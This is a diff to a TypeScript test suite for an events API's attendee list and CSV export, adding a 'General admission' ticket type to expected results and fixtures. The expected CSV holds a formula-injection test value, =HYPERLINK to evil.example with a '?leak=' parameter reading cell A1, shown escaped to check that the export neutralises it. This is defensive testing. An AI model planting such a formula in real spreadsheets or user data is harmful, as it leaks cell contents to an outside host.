@@ -17,6 +17,7 @@ import {
   createEvent,
   createUser,
   eventWithSales,
+  firstTicketTypeId,
   type TestAccount,
 } from '../../../test/factories';
 import { createTestApp } from '../../../test/test-app';
@@ -98,7 +99,7 @@ describe('GET /events/{id}/attendees', () => {
       name: `${account.user.firstName} ${account.user.lastName}`,
       email: account.email,
       tickets,
-      type: null,
+      type: 'General admission',
       orderedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
       status,
     });
@@ -210,8 +211,8 @@ describe('GET /events/{id}/attendees.csv', () => {
     );
     expect(response.body).toBe(
       'orderId,name,email,tickets,type,orderedAt,status\r\n' +
-        `${second.id},'+1 -2,'${plus.email},1,,${second.createdAt},completed\r\n` +
-        `${first.id},"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"") Smith, ""the Third""\nof Nowhere",${mallory.email},2,,${first.createdAt},completed\r\n`,
+        `${second.id},'+1 -2,'${plus.email},1,General admission,${second.createdAt},completed\r\n` +
+        `${first.id},"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"") Smith, ""the Third""\nof Nowhere",${mallory.email},2,General admission,${first.createdAt},completed\r\n`,
     );
   });
 
@@ -223,6 +224,7 @@ describe('GET /events/{id}/attendees.csv', () => {
       Array.from({ length: many }, () => ({
         accountId: fan.user.id,
         eventId: event.id,
+        ticketTypeId: firstTicketTypeId(event),
         quantity: 1,
         unitPriceCents: 1000,
         totalCents: 1000,
